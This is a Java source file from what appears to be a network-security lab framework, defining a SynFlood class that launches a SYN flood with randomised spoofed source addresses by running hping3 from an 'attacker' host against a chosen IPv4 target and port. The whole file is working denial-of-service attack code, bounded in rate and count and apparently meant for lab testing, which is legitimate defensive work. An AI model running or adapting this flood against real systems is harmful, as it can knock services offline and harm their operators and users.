// SPDX-License-Identifier: Apache-2.0
package dev.tocsin.lab.flood;

import dev.tocsin.lab.Host;
import dev.tocsin.lab.Lab;
import dev.tocsin.lab.LabException;
import dev.tocsin.lab.Running;
import java.util.function.Consumer;

/// A SYN flood from random source addresses, made by Debian's hping3: bounded in rate and number.
public final class SynFlood {

  private SynFlood() {}

  /// @param target an IPv4 address: hping3 knows no other
  /// @throws LabException if hping3 is not installed
  public static Running start(
      Host attacker, String target, int port, long perSecond, long seconds, Consumer<String> line) {
    if (!Lab.isInstalled("hping3")) {
      throw new LabException("hping3 is not installed (apt install hping3)");
    }
    var microseconds = Math.max(1, 1_000_000 / perSecond);
    var count = perSecond * seconds;
    return attacker.start(
        line,
        "timeout",
        Long.toString(seconds),
        "hping3",
        "--quiet",
        "--syn",
        "--rand-source",
        "--destport",
        Integer.toString(port),
        "--interval",
        "u" + microseconds,
        "--count",
        Long.toString(count),
        target);
  }
}
